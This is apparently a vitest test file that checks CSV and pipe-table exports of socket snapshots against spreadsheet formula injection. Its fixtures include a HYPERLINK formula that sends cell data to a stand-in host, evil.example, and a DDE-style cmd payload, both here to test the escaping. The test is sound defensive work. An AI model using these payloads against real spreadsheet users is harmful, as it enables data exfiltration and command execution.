// Exported cells as a spreadsheet reads them: a hostile host's text is shown, never run.
import { describe, expect, it } from 'vitest';
import { toCsv } from '@/components/common/csv';
import { spreadsheetCell } from '@/lib/csv/spreadsheet-cell';
import { socketsToPipeTable } from '@/lib/snapshots/sockets-csv';
import type { SocketRow } from '@/lib/schemas/snapshot';
import { spreadsheetFields, startsAFormula } from '@/test/helpers/spreadsheet';

const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd', '-', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1'];
const pipe = { delimiter: '|', quote: 'when-needed' } as const;

describe('spreadsheet cells', () => {
  it('put a quote before every cell that a spreadsheet would run as a formula, and quote the cell', () => {
    expect(formulas.map((text) => spreadsheetCell(text))).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
      `"'+cmd"`,
      `"'-"`,
      `"'-2+3"`,
      `"'@SUM(1+1)"`,
      // The break or tab is a cell start of its own for a spreadsheet that splits there.
      `"'\t'=1+1"`,
      `"'\r'=1+1"`,
      `"'\n'=1+1"`,
    ]);
  });

  it('also guard a formula after a separator or line break inside a value', () => {
    expect(spreadsheetCell('x,=1+1;@SUM(A1)')).toBe(`"x,'=1+1;'@SUM(A1)"`);
    expect(spreadsheetCell('nginx -g daemon off;')).toBe('"nginx -g daemon off;"');
  });

  it('leave ordinary text, numbers and empty values as they are', () => {
    expect([spreadsheetCell('sshd'), spreadsheetCell(-1), spreadsheetCell(22), spreadsheetCell(null), spreadsheetCell('a=b')]).toEqual([
      '"sshd"',
      '"-1"',
      '"22"',
      '',
      '"a=b"',
    ]);
    expect([spreadsheetCell('sshd', pipe), spreadsheetCell(0, pipe), spreadsheetCell('0.0.0.0', pipe), spreadsheetCell(undefined, pipe)]).toEqual([
      'sshd',
      '0',
      '0.0.0.0',
      '',
    ]);
  });

  it('in the pipe table, quote only cells holding the delimiter, a quote or a line break', () => {
    expect(spreadsheetCell('a|b', pipe)).toBe('"a|b"');
    expect(spreadsheetCell('say "hi"', pipe)).toBe('"say ""hi"""');
    expect(spreadsheetCell('two\nlines', pipe)).toBe('"two\nlines"');
  });

  it('no CSV export has a cell that starts a formula, however it is split', () => {
    const csv = toCsv(
      ['proto', 'process', 'user'],
      formulas.map((text) => ['tcp', text, text]),
    );
    expect(spreadsheetFields(csv, ',').filter(startsAFormula)).toEqual([]);
    expect(spreadsheetFields(csv, ';').filter(startsAFormula)).toEqual([]);
  });

  it('the pipe table: no field starts a formula whether a spreadsheet splits on |, comma, semicolon or tab', () => {
    const socket = (process: string, user: string): SocketRow => ({
      proto: 'tcp',
      localAddress: '0.0.0.0',
      localPort: 4444,
      remoteAddress: null,
      remotePort: null,
      state: 'LISTEN',
      pid: 7,
      process,
      user,
      uid: 0,
    });
    const hostile = [...formulas, "x,=cmd|' /C calc'!A0", 'x;@SUM(1)', 'x\t-1+1', 'a|=1+1'];
    const table = socketsToPipeTable(hostile.map((text) => socket(text, text)));
    const lines = table.trimEnd().split('\n');
    expect(lines[0]).toBe('login|uid|command|ppid|pid|type|protocol|state|src_ip|src_port|dst_ip|dst_port');
    for (const delimiter of ['|', ',', ';', '\t']) {
      const fields = spreadsheetFields(lines.slice(1).join('\n'), delimiter);
      expect(fields.filter(startsAFormula), `split on ${JSON.stringify(delimiter)}`).toEqual([]);
    }
    // Rows of ordinary values are the seed's, byte for byte.
    expect(socketsToPipeTable([socket('sshd', 'root')])).toBe(
      'login|uid|command|ppid|pid|type|protocol|state|src_ip|src_port|dst_ip|dst_port\nroot|0|sshd||7|IPv4|TCP|LISTEN|0.0.0.0|4444||\n',
    );
  });
});
